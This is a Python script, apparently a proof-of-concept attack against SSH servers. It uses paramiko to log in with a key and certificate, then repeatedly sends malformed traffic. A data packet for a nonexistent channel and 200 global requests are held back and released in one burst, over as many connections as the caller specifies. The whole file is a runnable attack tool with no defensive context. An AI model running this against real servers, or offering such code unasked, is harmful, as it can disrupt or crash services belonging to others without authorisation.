"""Logs in with a key and a certificate, sends a packet that has no place, and many more right after it, again and again.

Arguments: host, port, user, key file, certificate file, how often.
"""

import logging
import socket
import sys

import paramiko
from paramiko.message import Message

logging.getLogger("paramiko").addHandler(logging.NullHandler())
host, port, user, key_file, certificate, times = sys.argv[1:]
key = paramiko.ECDSAKey.from_private_key_file(key_file)
key.load_certificate(certificate)


def packet(kind, text):
    message = Message()
    message.add_byte(kind)
    if kind == b"\x5e":  # data of a channel that is not there
        message.add_int(99)
    message.add_string(text)
    if kind == b"\x50":  # a global request that wants no answer
        message.add_boolean(False)
    return message


class Corked:
    """A socket that keeps what is sent until it is told to let it go, in one piece."""

    def __init__(self, socket):
        self._socket = socket
        self.cork = False
        self.kept = b""

    def __getattr__(self, name):
        return getattr(self._socket, name)

    def send(self, data):
        if self.cork:
            self.kept += data
            return len(data)
        return self._socket.send(data)

    def let_go(self):
        self.cork = False
        self._socket.sendall(self.kept)


for i in range(int(times)):
    corked = Corked(socket.create_connection((host, int(port))))
    transport = paramiko.Transport(corked)
    transport.start_client(timeout=20)
    transport.auth_publickey(user, key)
    try:
        corked.cork = True
        transport._send_message(packet(b"\x5e", b"x"))
        for k in range(200):
            transport._send_message(packet(b"\x50", b"x" * 10))
        corked.let_go()
    except Exception:
        pass
    transport.close()
